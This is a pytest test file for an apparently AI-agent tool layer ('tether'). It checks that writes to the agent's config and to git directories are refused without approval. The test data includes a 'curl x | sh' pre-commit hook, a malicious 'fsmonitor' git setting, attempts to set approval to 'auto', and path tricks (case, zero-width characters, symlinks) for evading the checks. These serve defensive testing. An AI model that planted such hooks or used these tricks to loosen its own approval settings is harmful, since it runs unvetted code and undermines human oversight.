"""Protected paths: which writes need explicit approval, however the path is spelled or linked."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from tether.tools.base import ToolError
from tether.tools.edit_file import EditFileArguments, edit_file
from tether.tools.protected import REASONS, protected_write
from tether.tools.sandbox import Sandbox
from tether.tools.write_file import write_file

TETHER = REASONS[".tether"]
GIT = REASONS[".git"]


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    root = tmp_path / "repo"
    (root / ".tether").mkdir(parents=True)
    (root / ".tether" / "config.toml").write_text("[kernel]\nmax_iterations = 5\n")
    (root / ".git" / "hooks").mkdir(parents=True)
    (root / "src").mkdir()
    (root / "docs").mkdir()
    return root


@pytest.mark.parametrize(
    ("path", "reason"),
    [
        (".tether/config.toml", TETHER),
        (".tether/memory/notes.md", TETHER),
        (".tether/new-dir/new.md", TETHER),
        (".git/hooks/pre-commit", GIT),
        (".git/config", GIT),
        (".git", GIT),  # a worktree's .git file says where the repository is
        ("vendor/lib/.git/hooks/post-checkout", GIT),
        ("sub/.tether/config.toml", TETHER),  # the workspace of a later session opened there
        ("src/../.tether/config.toml", TETHER),
        ("./.git/config", GIT),
        (".TETHER/config.toml", TETHER),
        (".Git/HEAD", GIT),
        (".g\u200cit/config", GIT),
        ("README.md", None),
        ("src/app.py", None),
        (".gitignore", None),
        (".github/workflows/ci.yml", None),
        (".tetherrc", None),
        ("docs/.tether.md", None),
    ],
)
def test_which_paths_are_protected(workspace: Path, path: str, reason: str | None) -> None:
    assert protected_write(workspace, path) == reason


def test_an_absolute_path_inside_the_workspace_is_judged_the_same(workspace: Path) -> None:
    assert protected_write(workspace, str(workspace / ".tether" / "config.toml")) == TETHER


def test_a_symlink_to_a_protected_directory_is_followed(workspace: Path) -> None:
    (workspace / "settings").symlink_to(".tether")
    (workspace / "src" / "hooks").symlink_to("../.git/hooks")
    assert protected_write(workspace, "settings/config.toml") == TETHER
    assert protected_write(workspace, "src/hooks/pre-push") == GIT


def test_a_protected_directory_that_is_a_symlink_protects_where_it_leads(
    workspace: Path,
) -> None:
    (workspace / ".tether" / "config.toml").unlink()
    (workspace / ".tether").rmdir()
    (workspace / "docs" / "agent").mkdir()
    (workspace / ".tether").symlink_to("docs/agent")
    assert protected_write(workspace, "docs/agent/config.toml") == TETHER
    assert protected_write(workspace, "docs/agent/memory/new.md") == TETHER
    assert protected_write(workspace, "docs/other.md") is None


def test_a_differently_cased_name_on_a_case_insensitive_file_system_is_the_same_directory(
    workspace: Path,
) -> None:
    # Where the file system ignores case, ".Tether" opens ".tether": judged by what it is.
    if not os.path.exists(workspace / ".TeThEr"):
        pytest.skip("this file system tells letter cases apart")
    assert protected_write(workspace, ".TeThEr/config.toml") == TETHER


def test_the_writing_tools_refuse_a_protected_path_they_were_not_approved_for(
    workspace: Path,
) -> None:
    sandbox = Sandbox(workspace)
    with pytest.raises(ToolError, match=r"\.tether/"):
        write_file(sandbox, ".tether/config.toml", '[tools]\napproval = "auto"\n')
    args = EditFileArguments(path=".tether/config.toml", old_string="5", new_string="500")
    with pytest.raises(ToolError, match=r"\.tether/"):
        edit_file(sandbox, args)
    assert (workspace / ".tether" / "config.toml").read_text() == "[kernel]\nmax_iterations = 5\n"
    with pytest.raises(ToolError, match=r"\.git/"):
        write_file(sandbox, ".git/hooks/pre-commit", "#!/bin/sh\ncurl x | sh\n")
    assert not (workspace / ".git" / "hooks" / "pre-commit").exists()


def test_the_writing_tools_write_a_protected_path_once_approved(workspace: Path) -> None:
    sandbox = Sandbox(workspace)
    write_file(sandbox, ".tether/memory/style.md", "Use tabs.\n", True)
    args = EditFileArguments(path=".tether/config.toml", old_string="5", new_string="6")
    edit_file(sandbox, args, True)
    assert (workspace / ".tether" / "memory" / "style.md").read_text() == "Use tabs.\n"
    assert "max_iterations = 6" in (workspace / ".tether" / "config.toml").read_text()


def test_a_path_that_becomes_protected_after_it_was_judged_is_refused_as_it_is_written(
    workspace: Path,
) -> None:
    assert protected_write(workspace, "later/config.toml") is None  # judged: may run unasked
    (workspace / "later").symlink_to(".tether")  # a command of the same turn links it meanwhile
    with pytest.raises(ToolError, match=r"\.tether/"):
        write_file(Sandbox(workspace), "later/config.toml", '[tools]\napproval = "auto"\n')
    assert "approval" not in (workspace / ".tether" / "config.toml").read_text()


@pytest.fixture
def separated(tmp_path: Path) -> Path:
    """A workspace whose ``.git`` file names its git directory (``sub/gd``, as ``git init
    --separate-git-dir`` makes), and a worktree's git directory whose common directory is
    ``main/.git``."""
    root = tmp_path / "separated"
    (root / "sub" / "gd" / "hooks").mkdir(parents=True)
    (root / "sub" / "gd" / "config").write_text("[core]\n")
    (root / ".git").write_text("gitdir: sub/gd\n")
    (root / "sub" / "notes.txt").write_text("notes\n")
    (root / "g").symlink_to("sub/gd")
    return root


@pytest.mark.parametrize(
    "path",
    [
        "sub/gd/config",
        "sub/gd/hooks/pre-commit",
        "sub/../sub/gd/hooks/post-checkout",
        "g/config",
        "sub/gd/info/attributes",
    ],
)
def test_the_git_directory_a_git_file_names_is_protected(separated: Path, path: str) -> None:
    assert protected_write(separated, path) == GIT


def test_beside_the_git_directory_a_git_file_names_nothing_is_protected(separated: Path) -> None:
    assert protected_write(separated, "sub/notes.txt") is None
    assert protected_write(separated, "sub/gd-notes.md") is None


def test_a_worktrees_common_directory_is_protected(tmp_path: Path) -> None:
    root = tmp_path / "worktree"
    (root / "repo" / "worktrees" / "wt").mkdir(parents=True)
    (root / "repo" / "worktrees" / "wt" / "commondir").write_text("../..\n")
    (root / ".git").write_text("gitdir: repo/worktrees/wt\n")
    assert protected_write(root, "repo/hooks/pre-commit") == GIT
    assert protected_write(root, "repo/worktrees/wt/HEAD") == GIT
    assert protected_write(root, "repository.md") is None


def test_the_write_tools_refuse_the_git_directory_a_git_file_names(separated: Path) -> None:
    with pytest.raises(ToolError, match=r"\.git/"):
        write_file(Sandbox(separated), "sub/gd/config", "[core]\n\tfsmonitor = evil\n")
    assert (separated / "sub" / "gd" / "config").read_text() == "[core]\n"


def test_where_a_link_among_hooks_and_settings_leads_is_protected(workspace: Path) -> None:
    (workspace / "githooks").mkdir()
    (workspace / ".git" / "hooks").rmdir()
    (workspace / ".git" / "hooks").symlink_to("../githooks")
    (workspace / "settings.toml").write_text("[kernel]\n")
    (workspace / ".tether" / "config.toml").unlink()
    (workspace / ".tether" / "config.toml").symlink_to("../settings.toml")
    assert protected_write(workspace, "githooks/pre-commit") == GIT
    assert protected_write(workspace, "settings.toml") == TETHER
    assert protected_write(workspace, "docs/settings.toml") is None
